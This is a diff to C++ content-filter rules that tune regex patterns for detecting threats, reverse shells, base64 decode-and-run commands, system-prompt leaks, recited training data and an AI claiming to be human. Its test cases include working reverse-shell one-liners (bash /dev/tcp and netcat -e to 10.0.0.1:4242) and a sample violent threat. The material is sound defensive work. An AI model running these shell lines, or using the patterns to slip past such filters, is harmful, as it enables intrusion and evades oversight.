@@ -75,7 +75,7 @@ void add_harm(std::vector<Rule>& rules) {
                  .pattern = "\\bi(?:'ll| will|'m going to| am going to) (?:kill|murder|hurt|shoot|stab|rape) "
                             "(?:you|him|her|them|your)\\b",
                  .anchors = {"kill", "murder", "hurt", "shoot", "stab", "rape"},
-                 .before = 24,
+                 .before = 26,
                  .hits = {{"I will kill you if you go", "a threat"}},
                  .misses = {{"I will kill the process", "a process"}},
              });
@@ -116,7 +116,7 @@ void add_code(std::vector<Rule>& rules) {
                             "\\bnc(?:at)?\\b[^\\n]{0,40} -[a-z]{0,4}e ?(?:/usr)?/bin/(?:ba|z)?sh|"
                             "\\bsocket\\b[^\\n]{0,160}\\bdup2\\([^\\n]{0,120}(?:/bin/(?:ba)?sh|subprocess)|"
                             "mkfifo [^\\n]{1,60}\\| ?/bin/(?:ba)?sh[^\\n]{0,40}\\| ?nc\\b)",
-                 .anchors = {"/dev/tcp/", "/dev/udp/", "/bin/sh", "/bin/bash", "dup2("},
+                 .anchors = {"/dev/tcp/", "/dev/udp/", "/bin/sh", "/bin/bash", "/bin/zsh", "dup2("},
                  .before = 200,
                  .hits = {{"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash"},
                           {"nc 10.0.0.1 4242 -e /bin/sh", "netcat"}},
@@ -134,6 +134,7 @@ void add_code(std::vector<Rule>& rules) {
               "base64 (?:-d|--decode|-D)[^\\n|]{0,20}\\| ?(?:sudo )?(?:ba|z)?sh\\b)",
           .anchors = {"powershell", "eval(", "exec(", "base64 -d", "base64 --decode"},
           .before = 1,
+          .after = 4110,
           .hits = {{"echo aGk= | base64 -d | bash", "decoded and run"},
                    {"exec(base64.b64decode(x))", "in Python"}},
           .misses = {{"base64 -d file > out", "a file"}, {"eval(expr)", "no decoding"}},
@@ -166,7 +167,7 @@ void add_leaks_and_claims(std::vector<Rule>& rules) {
                      "message|initial instructions|"
                      "hidden instructions|initial prompt) (?:is|are|says?|reads?|begins?|tells? me)\\b)",
           .anchors = {"system prompt", "system message", "instructions", "initial prompt", "guidelines"},
-          .before = 90,
+          .before = 100,
           .hits = {{"Sure, here is my system prompt: be kind", "handed out"},
                    {"My initial instructions are as follows", "handed out"}},
           .misses = {{"here are the instructions for the oven", "a manual"}},
@@ -181,7 +182,7 @@ void add_leaks_and_claims(std::vector<Rule>& rules) {
                             "verbatim (?:from|copy of) (?:my|the) training (?:data|set|corpus)|i was trained "
                             "on (?:the following|this exact|your))\\b",
                  .anchors = {"training", "trained on"},
-                 .before = 30,
+                 .before = 33,
                  .hits = {{"This is verbatim from my training data: Alice", "recited"}},
                  .misses = {{"the training data are split in three", "a study"}},
              });
@@ -222,8 +223,9 @@ void add_leaks_and_claims(std::vector<Rule>& rules) {
                  .confidence = 0.7,
                  .pattern = "\\bi(?:'m| am) (?:really |actually )?(?:a (?:real )?(?:human(?: "
                             "being)?|person)\\b(?!-)|not (?:an? )?(?:ai|bot|machine|robot|chatbot)\\b)",
-                 .anchors = {"human", "a person", "real person", "not a", "not ai"},
-                 .before = 20,
+                 .anchors = {"human", "a person", "real person", "not a", "not ai", "not bot", "not machine",
+                             "not robot", "not chatbot"},
+                 .before = 36,
                  .hits = {{"I am a real human being, not a program", "a model is not"}},
                  .misses = {{"I am a person-centred therapist", "another word"},
                             {"the human is real", "a statement"}},
